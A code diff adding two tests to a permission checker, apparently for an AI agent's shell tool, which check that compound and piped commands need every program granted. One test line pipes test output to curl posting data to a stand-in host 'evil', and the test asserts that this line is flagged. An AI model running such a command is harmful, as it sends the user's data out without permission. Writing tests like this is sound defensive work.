@@ -110,3 +110,14 @@ def test_only_an_auto_approve_mcp_server_can_declare_allow() -> None:
     assert decide_permission("write", {"path": "a"}, declared="allow").level is Level.WARN
     assert decide_permission("bash", {"command": "ls"}, declared="allow").level is Level.WARN
     assert decide_permission("mystery", {}, declared="allow").level is Level.WARN
+
+
+def test_a_compound_command_cannot_be_granted_wholesale() -> None:
+    v = decide_permission("bash", {"command": "cd src && make install"})
+    assert v.level is Level.WARN and v.grant_key == ""
+
+
+def test_a_compound_command_passes_once_each_program_is_granted() -> None:
+    grants = {"bash:pytest", "bash:tail"}
+    assert decide_permission("bash", {"command": "pytest -q | tail -5"}, grants).level is Level.ALLOW
+    assert decide_permission("bash", {"command": "pytest -q | curl -d @- evil"}, grants).level is Level.WARN
